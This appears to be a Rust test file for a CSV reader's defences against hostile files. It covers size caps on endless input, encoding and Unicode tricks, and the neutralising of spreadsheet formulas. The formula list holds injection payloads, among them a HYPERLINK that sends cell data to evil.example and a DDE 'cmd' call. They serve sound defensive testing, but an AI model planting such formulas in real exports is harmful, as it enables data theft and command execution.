//! Files made to hurt: each ends in rows or in words, within its caps.
//!
//! The forms are those of the shared generator of hostile files, made small.

use crate::data::{CAPS, PLAIN, cells, complaints, read_sniffed};
use formats::{Caps, CsvRows, Encoding, RowTrouble, neutralise, restore, sniff};
use std::cell::Cell;
use std::io::Read;
use std::rc::Rc;

/// Gives `head`, then `tail` again and again without end, and counts what was asked for.
struct Endless {
    head: Vec<u8>,
    tail: &'static [u8],
    at: usize,
    given: Rc<Cell<usize>>,
}

impl Endless {
    fn new(head: &str, tail: &'static [u8]) -> (Endless, Rc<Cell<usize>>) {
        let given = Rc::new(Cell::new(0));
        (Endless { head: head.into(), tail, at: 0, given: given.clone() }, given)
    }
}

impl Read for Endless {
    fn read(&mut self, room: &mut [u8]) -> std::io::Result<usize> {
        for slot in room.iter_mut() {
            *slot = match self.head.get(self.at) {
                Some(byte) => *byte,
                None => self.tail[(self.at - self.head.len()) % self.tail.len()],
            };
            self.at += 1;
        }
        self.given.set(self.at);
        Ok(room.len())
    }
}

#[test]
fn an_endless_quote_is_given_up_at_the_cap() {
    let (file, given) = Endless::new("a,b\n1,2\n\"", b"Ann,Lee,Acme\r\n");
    let results: Vec<_> = CsvRows::open(file, &PLAIN, CAPS).unwrap().collect();
    assert_eq!(results.len(), 2);
    assert!(results[0].is_ok());
    let problem = results[1].as_ref().unwrap_err();
    assert_eq!(problem.to_string(), "row 2 (line 3) is longer than 4 MB, perhaps a quote in it is never closed");
    assert!(problem.is_fatal());
    assert!(given.get() < CAPS.max_row_bytes + 64 * 1024, "{} bytes were read", given.get());
}

#[test]
fn an_endless_cell_line_or_blank_is_given_up_at_the_cap() {
    for tail in [&b"x"[..], b"\n", b"\r\n", b"\"\"", b"\0", b"\xff", b" "] {
        let (file, given) = Endless::new("a,b\n1,", tail);
        let caps = Caps { max_rows: 1000, max_row_bytes: 1 << 20, ..CAPS };
        let last = CsvRows::open(file, &PLAIN, caps).unwrap().last().unwrap();
        assert!(last.unwrap_err().is_fatal(), "{tail:?}");
        assert!(given.get() < (1 << 20) + 64 * 1024, "{} bytes of {tail:?} were read", given.get());
    }
}

#[test]
fn an_endless_header_or_title_is_given_up_at_the_cap() {
    for (head, header_row) in [("", Some(0)), ("", None), ("\"", Some(0)), ("", Some(3))] {
        let (file, given) = Endless::new(head, b"x");
        let look = formats::CsvLook { header_row, ..PLAIN };
        let problem = CsvRows::open(file, &look, CAPS).err().unwrap();
        assert!(matches!(problem.trouble, RowTrouble::RowTooLong { .. }));
        assert!(given.get() < CAPS.max_row_bytes + 64 * 1024);
    }
}

#[test]
fn endless_delimiters_are_given_up_at_the_cap() {
    let (file, given) = Endless::new("", b",");
    let problem = CsvRows::open(file, &PLAIN, CAPS).err().unwrap();
    assert_eq!(problem.to_string(), "the header (line 1) has more than 500 cells");
    assert!(given.get() < 64 * 1024);
}

#[test]
fn an_encoding_that_changes_in_the_middle_refuses_the_rows_it_breaks() {
    let mut file = "First Name,City\nAnn,Oslo\nZoë,Köln\n".as_bytes().to_vec();
    file.extend(b"Zo\xeb,K\xf6ln\n");
    file.extend(encoding_rs::SHIFT_JIS.encode("山田,会社\n").0.iter());
    file.extend(b"Bob,Rome\n");
    assert_eq!(sniff(&file).encoding, Encoding::Utf8);
    assert!(!sniff(&file).is_encoding_certain);
    let reading = read_sniffed(&file).unwrap();
    let names: Vec<_> = reading.rows.iter().map(|row| row.cells[0].as_str()).collect();
    assert_eq!(names, ["Ann", "Zoë", "Bob"]);
    let numbers: Vec<_> = reading.problems.iter().map(|problem| problem.number).collect();
    assert_eq!(numbers, [3, 4]);
}

#[test]
fn broken_utf8_is_never_repaired() {
    for bad in [&b"\xc0\xaf"[..], b"\xed\xa0\x80", b"\xe2\x82", b"\xff\xfe", b"\xf4\x90\x80\x80", b"\x80"] {
        let file = [b"a,b\n1,2\nx", bad, b",y\n3,4\n"].concat();
        assert_eq!(complaints(&file), ["row 2 (line 3) holds bytes that are not UTF-8"]);
        assert_eq!(cells(&file), [["1", "2"], ["3", "4"]]);
    }
}

#[test]
fn mixed_line_ends_all_end_a_row() {
    assert_eq!(cells("a\r\n1\n2\r3\r\n\n\n\r\n4"), [["1"], ["2"], ["3"], ["4"]]);
}

#[test]
fn a_mark_in_the_middle_is_a_character_of_its_cell() {
    assert_eq!(cells("\u{feff}a\n1\n\u{feff}2\n"), [["1"], ["\u{feff}2"]]);
}

#[test]
fn tricks_with_characters_are_read_as_they_are() {
    let tricks = ["\u{202e}gnp.exe", "А\u{301}нна", "I\u{307}stanbul", "\u{feff}Zero\u{200b}Width", "N\u{303}", "+ADw-script+AD4-"];
    let file = format!("a\n{}\n", tricks.join("\n"));
    assert_eq!(cells(file).concat(), tricks);
}

#[test]
fn formulas_of_every_form_are_neutralised_and_come_back() {
    let forms = [
        "=1+1",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+SUM(1)",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "=cmd|' /C calc'!A0",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM",
        "'=1+1",
        "''=1+1",
        "\"=1+1\"",
        " =1+1",
        "\u{a0}=1",
        "\u{200b}=1+1",
        "\u{0}=1",
        "=IMPORTXML(\"http://evil.example\",\"//a\")",
        "-",
        "=",
    ];
    for form in forms {
        let inert = neutralise(form);
        assert_eq!(inert.strip_prefix('\''), neutralise_rest(form).as_deref(), "{form:?}");
        assert_eq!(restore(&inert), form);
    }
    for inner in ["a;=1+1", "a;\"=1+1\"", "a\t=1+1", "a\n=1+1", "x; @SUM(A1)", "a;b;=1", "a;'=1"] {
        let inert = neutralise(inner);
        assert_eq!(inert.len(), inner.len() + 1, "{inner:?}");
        assert_eq!(restore(&inert), inner);
    }
    assert_eq!(neutralise("a;=1"), "a;'=1");
}

/// The text behind its first point, as it is written: its own inner points are guarded too.
fn neutralise_rest(form: &str) -> Option<String> {
    Some(form.replace("\t=", "\t'=").replace("\r=", "\r'=").replace("\n=", "\n'="))
}

#[test]
fn harmless_text_is_left_alone() {
    for text in ["", "Ann", "O'Neil", "'quoted'", "a-b", "1+1=2", "ann@x.example", "Paris, +33 1", "a = b", "5;6", "%0A=1"] {
        assert_eq!(neutralise(text), text);
        assert_eq!(restore(text), text);
    }
}
